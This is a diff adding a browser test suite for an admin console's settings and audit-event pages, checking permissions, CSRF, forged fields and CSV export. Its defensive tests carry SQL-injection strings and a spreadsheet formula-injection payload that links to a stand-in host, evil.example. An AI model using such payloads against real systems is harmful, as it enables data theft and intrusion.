@@ -1,0 +1,360 @@
+// SPDX-License-Identifier: BSD-2-Clause
+// The admin console's pages beyond members and clients (issue 20), in headless Chromium with
+// JavaScript off: project settings (brand, MFA rule and methods, email verification,
+// self-registration; rate limits for super admins only) and the audit events (filters, paging,
+// CSV). Every page also refused: a member who is not an admin, another project's id in the URL
+// or in a field, a stale CSRF token, a project admin's forged rate-limit fields. Screenshots in
+// var/test-logs/screenshots/; at 360 px wide no page scrolls sideways (PROTOCOL.md §9.3).
+import { after, before, describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { launchBrowser, openContext as newContext, shot as screenshot, skip, submit } from './browser-lib.mjs';
+import {
+  BASE_URL,
+  TEST_PASSWORD,
+  addMember,
+  createProject,
+  createUser,
+  dbExec,
+  dbQuery,
+  postJson,
+  randomUUID,
+  uniqueEmail,
+  uniqueName,
+} from './lib.mjs';
+
+let browser;
+before(async () => {
+  if (!skip) browser = await launchBrowser();
+});
+after(async () => {
+  await browser?.close();
+});
+
+const shot = (page, name) => screenshot(page, `console-${name}`, false);
+
+/** A project with an admin, a plain member and an access policy. */
+function fixture(prefix, { superAdmin = false } = {}) {
+  const projectName = uniqueName(`${prefix}-project`);
+  const projectId = createProject(projectName);
+  if (superAdmin) dbExec('UPDATE project SET super_admin = TRUE WHERE id = ?', [projectId]);
+  const adminEmail = uniqueEmail(`${prefix}-admin`);
+  const adminId = createUser({ email: adminEmail, first: 'Ada', last: 'Admin', password: TEST_PASSWORD });
+  addMember({ project: projectId, user: adminId, admin: true });
+  const memberEmail = uniqueEmail(`${prefix}-member`);
+  const memberId = createUser({ email: memberEmail, first: 'Mo', last: 'Member', password: TEST_PASSWORD });
+  addMember({ project: projectId, user: memberId });
+  const policyId = randomUUID();
+  dbExec('INSERT INTO access_policy (id, project_id, name, resource) VALUES (?, ?, ?, ?)', [
+    policyId, projectId, `Patients ${projectName}`, JSON.stringify({ resourceType: 'AccessPolicy', name: 'Patients', resource: [{ resourceType: 'Patient' }] }),
+  ]);
+  return { projectName, projectId, adminEmail, adminId, memberEmail, memberId, policyId };
+}
+
+async function signedIn(email, { width } = {}) {
+  const { context, page, problems } = await newContext(browser, false);
+  if (width) await page.setViewportSize({ width, height: 800 });
+  await page.goto(new URL('signin', BASE_URL).href);
+  await page.getByLabel('Email', { exact: true }).fill(email);
+  await page.getByLabel('Password').fill(TEST_PASSWORD);
+  await submit(page, 'button', 'Sign in');
+  assert.equal(new URL(page.url()).pathname, '/account');
+  return { context, page, problems };
+}
+
+const pageUrl = (projectId, rest) => new URL(`manage/projects/${projectId}/${rest}`, BASE_URL).href;
+
+/** A post with this browser's cookies (a forged form: the fields a page does not offer). */
+async function forge(page, url, form) {
+  const csrf = form.csrf ?? (await page.locator('input[name=csrf]').first().getAttribute('value'));
+  const r = await page.request.post(url, { form: { ...form, csrf }, maxRedirects: 0 });
+  return { status: r.status(), text: await r.text() };
+}
+
+function settingsRow(projectId) {
+  return dbQuery(
+    'SELECT COALESCE(brand_name, \'\'), mfa_required, allowed_mfa_methods, email_verification_required, ' +
+      "COALESCE(default_patient_access_policy_id, ''), COALESCE(system_setting, '') FROM project WHERE id = ?",
+    [projectId],
+  )[0];
+}
+
+/** No sideways scrolling at this width (a JavaScript-on context measures it). */
+async function fitsWidth(url, email, width) {
+  const context = await browser.newContext({ javaScriptEnabled: true, viewport: { width, height: 800 } });
+  const page = await context.newPage();
+  try {
+    await page.goto(new URL('signin', BASE_URL).href);
+    await page.getByLabel('Email', { exact: true }).fill(email);
+    await page.getByLabel('Password').fill(TEST_PASSWORD);
+    await submit(page, 'button', 'Sign in');
+    await page.goto(url);
+    return await page.evaluate(() => document.documentElement.scrollWidth);
+  } finally {
+    await context.close();
+  }
+}
+
+describe('project settings page (JavaScript off)', { skip }, () => {
+  it('a project admin sets brand, MFA, verification and registration; rate limits are read-only', async () => {
+    const fx = fixture('cs');
+    const { context, page, problems } = await signedIn(fx.adminEmail);
+    try {
+      await submit(page, 'link', fx.projectName);
+      await submit(page, 'link', 'Settings');
+      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/settings`);
+      assert.equal(await page.locator('nav [aria-current=page]').innerText(), 'Settings');
+      assert.equal(await page.locator('#rateLimit').count(), 0, 'no rate-limit field for a project admin');
+      assert.match(await page.locator('#rate-limits').innerText(), /A super administrator can change them/);
+      await shot(page, 'settings');
+
+      await page.getByLabel('Brand name').fill('Acme <Health>');
+      await page.getByLabel('Code by email allowed').uncheck();
+      await page.getByLabel('Members must have verified').check();
+      await page.getByLabel('Patient self-registration').selectOption(fx.policyId);
+      await submit(page, 'button', 'Save settings');
+      assert.match(await page.locator('[role=status]').innerText(), /The settings were saved/);
+      assert.deepEqual(settingsRow(fx.projectId), ['Acme <Health>', '0', 'totp', '1', fx.policyId, '']);
+      assert.equal(await page.getByLabel('Brand name').inputValue(), 'Acme <Health>');
+      assert.equal(await page.getByLabel('Patient self-registration').inputValue(), fx.policyId);
+      assert.ok(!(await page.getByLabel('Code by email allowed').isChecked()));
+      const audit = dbQuery("SELECT COUNT(*) FROM audit_event WHERE project_id = ? AND type = 'settings-updated'", [fx.projectId]);
+      assert.equal(audit[0][0], '1');
+
+      // No second factor allowed at all: refused beside the fieldset, nothing changes.
+      await page.getByLabel('Authenticator app (TOTP) allowed').uncheck();
+      await page.getByLabel('Brand name').fill('Changed');
+      await submit(page, 'button', 'Save settings');
+      assert.equal(await page.locator('#methods-error').innerText(), 'Allow at least one second factor');
+      assert.equal(await page.getByLabel('Brand name').inputValue(), 'Changed', 'the form keeps what was sent');
+      assert.equal(settingsRow(fx.projectId)[0], 'Acme <Health>');
+      await shot(page, 'settings-error');
+
+      // Registration closed again, and a second factor required: the admin, who has none,
+      // is sent to sign in again (the page session owes the second factor now).
+      await page.getByLabel('Authenticator app (TOTP) allowed').check();
+      await page.getByLabel('Brand name').fill('Acme <Health>');
+      await page.getByLabel('Patient self-registration').selectOption('');
+      await page.getByLabel('Every member must use a second factor').check();
+      await submit(page, 'button', 'Save settings');
+      assert.deepEqual(settingsRow(fx.projectId).slice(0, 5), ['Acme <Health>', '1', 'totp', '1', '']);
+      assert.notEqual(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/settings`);
+      assert.deepEqual(problems, []);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('refusals: forged rate limits, another project\'s policy, another project, a stale token, a plain member', async () => {
+    const fx = fixture('cr');
+    const other = fixture('cr-other');
+    const { context, page } = await signedIn(fx.adminEmail);
+    try {
+      const url = pageUrl(fx.projectId, 'settings');
+      await page.goto(url);
+      const before = settingsRow(fx.projectId);
+      const base = { brandName: 'Forged', totp: 'true' };
+
+      let r = await forge(page, url, { ...base, rateLimit: '1000000', authRateLimit: '1000000' });
+      assert.equal(r.status, 403);
+      assert.match(r.text, /Only a super administrator can change the rate limits/);
+      assert.deepEqual(settingsRow(fx.projectId), before);
+
+      r = await forge(page, url, { ...base, registration: other.policyId });
+      assert.equal(r.status, 400);
+      assert.match(r.text, /Choose one of this project&#39;s access policies|Choose one of this project's access policies/);
+      assert.deepEqual(settingsRow(fx.projectId), before);
+
+      r = await forge(page, url, { ...base, registration: "x' OR '1'='1" });
+      assert.equal(r.status, 400);
+      r = await forge(page, url, { ...base, brandName: 'two\nlines' });
+      assert.equal(r.status, 400);
+      assert.deepEqual(settingsRow(fx.projectId), before);
+
+      // Another project's id in the URL: its settings are neither shown nor changed.
+      const otherUrl = pageUrl(other.projectId, 'settings');
+      const get = await page.goto(otherUrl);
+      assert.equal(get.status(), 403);
+      await shot(page, 'settings-other-project');
+      await page.goto(url);
+      r = await forge(page, otherUrl, base);
+      assert.equal(r.status, 403);
+      assert.deepEqual(settingsRow(other.projectId)[0], '');
+
+      r = await forge(page, url, { ...base, csrf: 'f'.repeat(64) });
+      assert.equal(r.status, 403);
+      assert.deepEqual(settingsRow(fx.projectId), before);
+    } finally {
+      await context.close();
+    }
+    const plain = await signedIn(fx.memberEmail);
+    try {
+      const csrf = await plain.page.locator('input[name=csrf]').first().getAttribute('value');
+      const res = await plain.page.goto(pageUrl(fx.projectId, 'settings'));
+      assert.equal(res.status(), 403);
+      assert.match(await plain.page.locator('main').innerText(), /Only the administrators of this project/);
+      const r = await forge(plain.page, pageUrl(fx.projectId, 'settings'), { brandName: 'Member', totp: 'true', csrf });
+      assert.equal(r.status, 403);
+      assert.equal(settingsRow(fx.projectId)[0], '');
+    } finally {
+      await plain.context.close();
+    }
+  });
+
+  it('a super admin sets and clears another project\'s rate limits, other system settings kept', async () => {
+    const sup = fixture('csa', { superAdmin: true });
+    const target = fixture('csa-target');
+    dbExec('UPDATE project SET system_setting = ? WHERE id = ?', [JSON.stringify([{ name: 'clientRateLimit', valueInteger: 77 }]), target.projectId]);
+    const { context, page, problems } = await signedIn(sup.adminEmail);
+    try {
+      await page.goto(pageUrl(target.projectId, 'settings'));
+      await page.getByLabel('All requests').fill('500');
+      await page.getByLabel('Sign-in requests').fill('50');
+      await shot(page, 'settings-super');
+      await submit(page, 'button', 'Save settings');
+      assert.match(await page.locator('[role=status]').innerText(), /saved/);
+      const setting = JSON.parse(settingsRow(target.projectId)[5]);
+      assert.deepEqual(setting, [
+        { name: 'clientRateLimit', valueInteger: 77 },
+        { name: 'rateLimit', valueInteger: 500 },
+        { name: 'authRateLimit', valueInteger: 50 },
+      ]);
+      await page.getByLabel('All requests').fill('lots');
+      await submit(page, 'button', 'Save settings');
+      assert.match(await page.locator('#rateLimit-error').innerText(), /whole number/);
+      await page.getByLabel('All requests').fill('');
+      await page.getByLabel('Sign-in requests').fill('');
+      await submit(page, 'button', 'Save settings');
+      assert.deepEqual(JSON.parse(settingsRow(target.projectId)[5]), [{ name: 'clientRateLimit', valueInteger: 77 }]);
+      const missing = await page.goto(pageUrl(randomUUID(), 'settings'));
+      assert.equal(missing.status(), 404);
+      assert.deepEqual(problems, []);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('fits a 360 px screen', async () => {
+    const fx = fixture('cw');
+    assert.ok((await fitsWidth(pageUrl(fx.projectId, 'settings'), fx.adminEmail, 360)) <= 360);
+  });
+});
+
+describe('audit events page (JavaScript off)', { skip }, () => {
+  const HOSTILE_UA = '=HYPERLINK("http://evil.example/"&A1,"click")';
+  let fx;
+  before(async () => {
+    fx = fixture('ca');
+    // Two refused sign-ins of the member into this project, from a hostile user agent.
+    for (let i = 0; i < 2; i++) {
+      const r = await postJson('auth/login', { email: fx.memberEmail, password: `wrong-password-${i}`, projectId: fx.projectId },
+        { 'User-Agent': HOSTILE_UA });
+      assert.equal(r.status, 400);
+    }
+    // 60 older events of the admin, for the pages.
+    const values = [];
+    for (let i = 0; i < 60; i++)
+      values.push(`('${randomUUID()}', UTC_TIMESTAMP(3) - INTERVAL ${i + 10} MINUTE, 'password-changed', 'U', '0', '${fx.projectId}', 'User', '${fx.adminId}')`);
+    dbExec(`INSERT INTO audit_event (id, recorded, type, action, outcome, project_id, agent_type, agent_id) VALUES ${values.join(', ')}`);
+  });
+
+  it('filters by type and user, pages, and says when nothing matches', async () => {
+    const { context, page, problems } = await signedIn(fx.adminEmail);
+    try {
+      await submit(page, 'link', fx.projectName);
+      await submit(page, 'link', 'Audit events');
+      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/audit`);
+      await shot(page, 'audit');
+      const rows = page.locator('tbody tr');
+      assert.equal(await rows.count(), 50, 'one page of 50');
+      assert.match(await page.locator('caption').innerText(), /Events 1 to 50/);
+      await submit(page, 'link', 'Older events');
+      assert.ok((await rows.count()) >= 13, 'the rest on the second page');
+      assert.match(await page.locator('caption').innerText(), /Events 51 to/);
+      await submit(page, 'link', 'Newer events');
+      assert.match(await page.locator('caption').innerText(), /Events 1 to 50/);
+
+      await page.getByLabel('Type', { exact: true }).selectOption('sign-in-failure');
+      await submit(page, 'button', 'Show events');
+      assert.equal(await rows.count(), 2);
+      assert.match(await rows.first().innerText(), /sign-in-failure\s+failed\s+wrong password/);
+      assert.match(await rows.first().innerText(), new RegExp(`User/${fx.memberId}`));
+      await shot(page, 'audit-filtered');
+
+      await page.getByLabel('Type', { exact: true }).selectOption('');
+      await page.getByLabel(/^User/).fill(`Practitioner/${fx.adminId}`);
+      await submit(page, 'button', 'Show events');
+      assert.equal(await page.locator('caption').innerText().then((t) => /Events 1 to 50/.test(t)), true);
+      assert.doesNotMatch(await page.locator('tbody').innerText(), new RegExp(fx.memberId));
+
+      await page.getByLabel(/^From/).fill('2099-01-01T00:00');
+      await submit(page, 'button', 'Show events');
+      assert.match(await page.locator('main').innerText(), /No events match/);
+      assert.equal(new URL(page.url()).searchParams.get('since'), '2099-01-01T00:00');
+
+      await page.goto(pageUrl(fx.projectId, "audit?user=x'%20OR%201=1&since=yesterday"));
+      assert.match(await page.locator('#user-error').innerText(), /Enter a user's id/);
+      assert.match(await page.locator('#since-error').innerText(), /Enter a date and time/);
+      assert.equal(await page.getByLabel(/^User/).getAttribute('aria-invalid'), 'true');
+      const bad = await page.request.get(pageUrl(fx.projectId, 'audit?type=nope'));
+      assert.equal(bad.status(), 400);
+      assert.deepEqual(problems, []);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('the CSV download: the filters, formula cells neutralised, no login id', async () => {
+    const { context, page } = await signedIn(fx.adminEmail);
+    try {
+      await page.goto(pageUrl(fx.projectId, 'audit?type=sign-in-failure'));
+      const href = await page.getByRole('link', { name: 'Download these events as CSV' }).getAttribute('href');
+      assert.match(href, /audit\.csv\?type=sign-in-failure$/);
+      const r = await page.request.get(href);
+      assert.equal(r.status(), 200);
+      assert.match(r.headers()['content-type'], /^text\/csv/);
+      assert.match(r.headers()['content-disposition'], new RegExp(`attachment; filename="audit-${fx.projectId}.csv"`));
+      const lines = (await r.text()).trim().split('\n');
+      assert.equal(lines[0], '"recorded","type","outcome","agent","client","address","user_agent","entity","reason"');
+      assert.equal(lines.length, 3);
+      // The user agent began with "=": it starts with an apostrophe, its quotes doubled.
+      assert.ok(lines[1].includes(`"'=HYPERLINK(""http://evil.example/""&A1,""click"")"`), lines[1]);
+      for (const line of lines.slice(1)) for (const cell of line.match(/"(?:[^"]|"")*"/g)) assert.doesNotMatch(cell, /^"[=+\-@\t\r]/);
+      const all = await (await page.request.get(pageUrl(fx.projectId, 'audit.csv'))).text();
+      assert.ok(all.split('\n').length > 60);
+      for (const [id] of dbQuery("SELECT id FROM login WHERE user_id IN (?, ?)", [fx.adminId, fx.memberId]))
+        assert.ok(!all.includes(id), 'a login id in the CSV');
+      const bad = await page.request.get(pageUrl(fx.projectId, 'audit.csv?since=never'));
+      assert.equal(bad.status(), 400);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it("refusals: a plain member, another project's events", async () => {
+    const other = fixture('ca-other');
+    const plain = await signedIn(fx.memberEmail);
+    try {
+      for (const rest of ['audit', 'audit.csv']) {
+        const r = await plain.page.goto(pageUrl(fx.projectId, rest)).catch(() => null);
+        const status = r ? r.status() : (await plain.page.request.get(pageUrl(fx.projectId, rest))).status();
+        assert.equal(status, 403, rest);
+      }
+    } finally {
+      await plain.context.close();
+    }
+    const admin = await signedIn(fx.adminEmail);
+    try {
+      for (const rest of ['audit', 'audit.csv']) {
+        const r = await admin.page.request.get(pageUrl(other.projectId, rest));
+        assert.equal(r.status(), 403, rest);
+        assert.doesNotMatch(await r.text(), new RegExp(other.adminId));
+      }
+    } finally {
+      await admin.context.close();
+    }
+  });
+
+  it('fits a 360 px screen', async () => {
+    assert.ok((await fitsWidth(pageUrl(fx.projectId, 'audit'), fx.adminEmail, 360)) <= 360);
+  });
+});
